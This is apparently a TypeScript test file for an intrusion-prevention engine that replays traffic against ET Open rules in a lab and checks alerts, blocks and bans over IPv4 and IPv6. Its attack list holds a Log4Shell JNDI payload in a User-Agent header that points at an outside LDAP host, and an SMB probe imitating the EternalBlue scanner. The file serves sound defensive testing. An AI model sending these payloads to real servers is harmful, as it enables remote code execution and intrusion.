/** A public rule set, all of whose rules say `alert`, with the default table of what counts as an attack; on the real kernel. */
import { Lab, type LabServer, waitUntil } from '@portcullis/testkit';
import { negotiate1, transactionPipe } from '../builtin/smb-message';
import { corporaMissing, readCorpora } from './agreement/corpora';
import { describeLab, LabEngine } from './engine';

const HTTP = 80;
const SMB = 445;

/** @param lines of the head @param body what is posted */
function http(lines: readonly string[], body = ''): string {
  const length = body === '' ? [] : [`Content-Length: ${body.length}`];
  return [lines[0], 'Host: shop.example', ...lines.slice(1), ...length, '', body].join('\r\n');
}

const attacks = [
  [
    'log4shell',
    2034647,
    HTTP,
    [http(['GET / HTTP/1.1', `User-Agent: \${jndi:ldap://203.0.113.9:1389/Exploit}`])],
  ],
  [
    'SMB, as the scanner of EternalBlue asks',
    2025649,
    SMB,
    // Flags as that program sets them.
    [negotiate1('NT LM 0.12'), transactionPipe(0x23, 0).replace('\x18\x07\xc0', '\x18\x01\x28')],
  ],
] as const;

const others = [
  [
    'policy',
    2012843,
    http(['POST /wp-login.php HTTP/1.1', 'User-Agent: a'], 'log=anna&pwd=secret&wp-submit=Log+In'),
  ],
  ['information', 2017515, http(['GET /feed HTTP/1.1', 'User-Agent: python-requests/2.31.0'])],
  ['a scan', 2008187, http(['GET /index HTTP/1.1', 'User-Agent: Paros/3.2.13'])],
] as const;

describeLab('ET Open with what is configured by default', () => {
  const missing = corporaMissing();
  if (missing !== null) {
    test.skip(`needs the rules: ${missing}`, () => {});
    return;
  }
  let lab: Lab;
  let engine: LabEngine;
  let servers: Record<number, LabServer>;
  beforeAll(async () => {
    lab = new Lab('pcpr');
    servers = {
      [HTTP]: await lab.httpServer('server', HTTP),
      [SMB]: await lab.tcpServer('server', SMB, { kind: 'sink' }),
    };
    engine = new LabEngine(lab, { ruleFiles: [readCorpora().rules] });
    await engine.start({}, 200_000);
  }, 240_000);
  afterAll(() => {
    lab?.destroy();
    engine?.remove();
  });

  const told = (sid: number, family: 4 | 6) =>
    waitUntil(
      () =>
        engine
          .events('alert')
          .find(
            ({ alert, src_ip }) => alert?.signature_id === sid && src_ip === lab.address('attacker', family),
          ),
      { what: `the event of rule ${sid}` },
    );

  describe.each([4, 6] as const)('over IPv%d', (family) => {
    test.each(others)('%s is told, served, and bans nobody', async (_, sid, bytes) => {
      const options = { host: lab.target(family), port: HTTP, bytes, ...engine.patience() };
      expect(await lab.request('attacker', options)).toMatchObject({ complete: true });
      expect(await told(sid, family)).toMatchObject({
        alert: { action: 'allowed' },
        portcullis: { event: 'signature_matched', enforced: false },
      });
      expect(await engine.bans()).toEqual([]);
    });

    test.each(attacks)('%s is stopped, and its source banned', async (_, sid, port, messages) => {
      const connection = await lab.connect('attacker', { host: lab.target(family), port });
      for (const message of messages) await connection.write(message);
      const address = lab.address('attacker', family);
      expect(await told(sid, family)).toMatchObject({
        alert: { action: 'blocked' },
        portcullis: {
          event: 'network_attack_detected',
          enforced: true,
          ban: { prefix: address, origin: 'attack' },
        },
      });
      expect(await engine.bans()).toEqual([address]);
      const last = Buffer.from(messages.at(-1) as string, 'latin1');
      expect((await (servers[port] as LabServer).received()).includes(last)).toBe(false);
      await connection.reset();
      await engine.letAllIn();
    });
  });
});
